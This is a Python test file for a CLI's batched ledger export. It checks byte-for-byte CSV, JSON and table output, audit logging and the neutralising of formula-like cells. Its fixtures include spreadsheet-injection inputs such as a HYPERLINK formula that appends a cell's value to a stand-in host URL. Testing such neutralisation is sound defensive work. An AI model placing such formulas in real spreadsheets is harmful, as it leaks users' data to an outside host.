"""`ironriver ledger` writes its rows as they are read, a batch at a time (`View.ledger_stream`),
and its output is the one it wrote when it held all the rows: CSV (Arrow kernels for the
cells, with and without --excel), JSON and the table are compared, byte for byte, with what
`csv.writer`, `json.dumps` and `table` write of `View.ledger_rows` for the same rows, on a
real SQLite store holding tricky values, with batches of a few rows."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from click.testing import CliRunner

import ironriver.policy.ledger_rows as ledger_rows_module
from ironriver.cli import cli
from ironriver.cli_ledger import _CSV_LABEL, _cell, _csv_lines, _csv_value, ledger_rows_json
from ironriver.cli_support import table
from ironriver.csvcells import BOM, inert_cell
from ironriver.policy import LedgerRows, View
from ironriver.policy.markings import Principal
from ironriver.store import open_store
from test_csv_writers import csv_module_text

MAPPING = """\
us_atf_sales:
  agency: ATF
  country: US
  marking: AMBER
  releasable_to: [US, MX]
  queries:
  - csv_url: sales.csv
    ledger:
      name: dealer_sales
      columns:
        txn: {column: txn, type: string}
        note: {column: note, type: string}
        qty: {column: qty, type: integer}
        price: {column: price, type: float}
        ok: {column: ok, type: boolean}
        sold: {column: sold, type: date}
        at: {column: at, type: timestamp}
"""
NOTES = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "-x-",
    "-5",
    "+52",
    "@SUM(A1:A9)",
    'say "hi", then go',
    "two\nlines",
    "Núñez, José",
    "",
    "ñ=1",
    "-1e3",
    "+",
    " =lead space",
    "a\r\nb",
]
PRICES = ["0.1", "1e20", "-0.0", "0", "1250", "1e-5", "0.0001", "1e16", "9999999999999998",
          "12345678901234", "-12.5", "", "2.5e-7", "1e15"]  # fmt: skip
TIMES = ["2024-03-01T14:30:05", "2024-03-01T14:30:05.25", "2024-03-01T00:00:00Z", "",
         "2024-12-31T23:59:59.000001+02:00"]  # fmt: skip


def _sales(rows: int) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["txn", "note", "qty", "price", "ok", "sold", "at"])
    for i in range(rows):
        writer.writerow(
            [
                f"T{i}",
                NOTES[i % len(NOTES)],
                "" if i % 5 == 4 else str((i - 7) * 1000),
                PRICES[i % len(PRICES)],
                ["yes", "no", ""][i % 3],
                "" if i % 6 == 5 else f"2024-0{1 + i % 9}-1{i % 10}",
                TIMES[i % len(TIMES)],
            ]
        )
    return out.getvalue()


@pytest.fixture
def db(tmp_path: Path) -> str:
    (tmp_path / "sales.csv").write_text(_sales(40), encoding="utf-8")
    (tmp_path / "sales.yaml").write_text(MAPPING, encoding="utf-8")
    path = str(tmp_path / "l.db")
    code, out, _ = run("ingest", str(tmp_path / "sales.yaml"), "--db", path, "--as", "loader")
    assert code == 0, out
    return path


def run(*args: str) -> tuple[int, bytes, str]:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    return result.exit_code, result.stdout_bytes, result.stderr


def _rows(db: str, limit: int) -> LedgerRows:
    store = open_store(f"sqlite:///{db}")
    try:
        return View(store, Principal("a", "ATF", "US")).ledger_rows("us_atf_sales", limit=limit)
    finally:
        store.close()


def _csv_before(result: LedgerRows, end: str) -> str:
    """What `ledger --format csv` wrote when it held all the rows (csv.writer per cell;
    a cell holding a CR quoted whatever the line end: `csv_module_text`)."""
    rows: list[list[Any]] = [[*result.columns, *_CSV_LABEL]]
    for row in result.rows:
        values = [_csv_value(row.values[c]) for c in result.columns]
        label = [row.marking, row.releasable_to, row.owner_agency, row.owner_country]
        rows.append([*values, *label, row.source_ref])
    return csv_module_text(rows, end)


@pytest.mark.parametrize("limit", [3, 40, 100])
def test_output_is_byte_for_byte_what_it_was_read_in_batches(
    db: str, limit: int, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Batches of 4 rows: --limit 3 is read at once (fits a batch), 40 and 100 are counted
    first and streamed in ten batches; every output is the one of the rows held at once
    (the table's, aligned over a batch, with batches of 40 rows)."""
    monkeypatch.setattr(ledger_rows_module, "BATCH_ROWS", 4)
    result = _rows(db, limit)
    assert len(result.rows) == min(limit, 40) and result.matched == 40
    args = ("ledger", "us_atf_sales", "--db", db, "--as", "us-atf-analyst", "--limit", str(limit))

    code, out, err = run(*args, "--format", "csv")
    assert code == 0, err
    assert out == _csv_before(result, "\n").encode("utf-8")
    assert (limit < 40) == ("of 40 matching rows shown" in err)

    code, out, err = run(*args, "--format", "csv", "--excel")
    assert code == 0, err
    assert out == (BOM + _csv_before(result, "\r\n")).encode("utf-8")

    code, out, err = run(*args, "--json")
    assert code == 0, err
    before = json.dumps(ledger_rows_json(result), ensure_ascii=False, indent=2, default=str)
    assert out == (before + "\n").encode("utf-8")

    # the table is aligned over a batch of rows (65,536): as it was up to that many
    monkeypatch.setattr(ledger_rows_module, "BATCH_ROWS", 40)
    code, out, err = run(*args)
    assert code == 0, err
    cells = [
        [*(_cell(row.values[c]) for c in result.columns), row.marking, row.source_ref or ""]
        for row in result.rows
    ]
    capsys.readouterr()
    table(cells, [*result.columns, "marking", "source"])
    assert out.decode("utf-8") == capsys.readouterr().out


def test_no_row_is_held_as_a_ledger_row(db: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The command writes Arrow batches as they come: it never builds the `LedgerRow`s of
    `View.ledger_rows` (all the rows in memory before the first byte, as it did)."""

    def refused(*args: object) -> None:
        raise AssertionError("a LedgerRow was built")

    monkeypatch.setattr(ledger_rows_module, "LedgerRow", refused)
    monkeypatch.setattr(ledger_rows_module, "BATCH_ROWS", 4)
    for fmt in (("--format", "csv"), ("--json",), ()):
        code, out, err = run(
            "ledger", "us_atf_sales", "--db", db, "--as", "us-atf-analyst", "--limit", "30", *fmt
        )
        assert code == 0, err
        assert b"T29" in out and b"T30" not in out


def test_a_stream_is_audited_before_its_first_batch_in_batches_of_at_most_its_size(
    db: str,
) -> None:
    """`View.ledger_stream`: the read's event (rows matched and returned) is in the log
    before a batch is taken; the batches hold at most `batch_rows` rows, `limit` in all."""
    store = open_store(f"sqlite:///{db}")
    try:
        view = View(store, Principal("a", "ATF", "US"))
        with view.ledger_stream("us_atf_sales", limit=25, batch_rows=4) as read:
            [event] = [e for e in store.audit.events() if e.action == "ledger"]
            assert (event.detail["matched"], event.detail["rows"]) == (40, 25)
            assert (read.matched, read.rows) == (40, 25)
            sizes = [batch.num_rows for batch in read.batches]
        assert sum(sizes) == 25 and max(sizes) <= 4
        # a --limit over a batch, matched by fewer rows: read in one scan, all of them
        with view.ledger_stream("us_atf_sales", [("txn", "T7")], limit=25, batch_rows=4) as read:
            assert (read.matched, read.rows) == (1, 1)
            [[txn]] = [batch.column(0).to_pylist() for batch in read.batches]
            assert txn == "T7"
    finally:
        store.close()


def test_float_cells_are_written_as_python_writes_them() -> None:
    """Arrow's text of a float is kept only where it is `repr`'s (with `.0` added)."""
    values = [0.1, 1e20, -0.0, 0.0, 1250.0, 1e-5, 1e-4, 1e16, 9999999999999998.0, 1e15,
              12345678901234.0, 2.5e-7, 1 / 3, float("nan"), float("inf"), -float("inf"),
              5e-324, 1.7976931348623157e308, None]  # fmt: skip
    text = _csv_lines([pa.array(values, pa.float64())], "\n")
    assert text.split("\n")[:-1] == ["" if v is None else repr(v) for v in values]
    single = pa.array([0.1, 1e20, None], pa.float32())  # (as Python reads them: more digits)
    assert _csv_lines([single], "\n") == "".join(
        ("" if v is None else repr(v)) + "\n" for v in single.to_pylist()
    )


@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_text_cells_are_made_inert_and_quoted_as_csv_writer_does(end: str) -> None:
    """Text the ingest keeps (a carriage return, a leading tab) as `inert_cell` and
    `csv.writer` make it, with either line end; a lone CR is quoted with both (left bare
    with LF ends, as csv.writer leaves it, a CSV reader took it for a line end)."""
    texts = ["\tx", "\r=1", "a\rb", "=1", "-", "-.5", "+1e3", "'q", 'x"', "a,b", "",
             "ü@", "@", " -1", "1-", "\u2028", None]  # fmt: skip
    got = _csv_lines([pa.array(texts, pa.string()), pa.array([1] * len(texts))], end)
    assert got == csv_module_text([[text, 1] for text in texts], end)
    assert list(csv.reader(io.StringIO(got, newline=""))) == [
        ["" if text is None else inert_cell(text), "1"] for text in texts
    ]


def test_a_lone_carriage_return_in_a_cell_keeps_its_row_whole(tmp_path: Path) -> None:
    """A text holding a CR alone is quoted with LF line ends too: a CSV reader read the bare
    CR as a line end, splitting the row in two. (A JSON Lines file keeps it; a CSV's quoted
    line breaks are read as LF, as `ftm map` reads them: review R29 F2.)"""
    records = [
        {
            "txn": "T1",
            "note": "a\rb",
            "qty": 1,
            "price": 2.5,
            "ok": "yes",
            "sold": "2024-03-01",
            "at": None,
        },
        {"txn": "T2", "note": "=x\ry", "qty": 2, "ok": "no"},
    ]
    (tmp_path / "sales.jsonl").write_text(
        "".join(json.dumps(r) + "\n" for r in records), encoding="utf-8"
    )
    mapping = MAPPING.replace("csv_url: sales.csv", "jsonl_url: sales.jsonl")
    (tmp_path / "sales.yaml").write_text(mapping, encoding="utf-8")
    db = str(tmp_path / "l.db")
    code, out, err = run("ingest", str(tmp_path / "sales.yaml"), "--db", db, "--as", "loader")
    assert code == 0, err
    args = ("ledger", "us_atf_sales", "--db", db, "--as", "us-atf-analyst", "--format", "csv")
    code, out, err = run(*args)
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out.decode("utf-8"), newline="")))
    assert [(row["txn"], row["note"], row["qty"]) for row in rows] == [
        ("T1", "a\rb", "1"),
        ("T2", "'=x\ry", "2"),
    ]
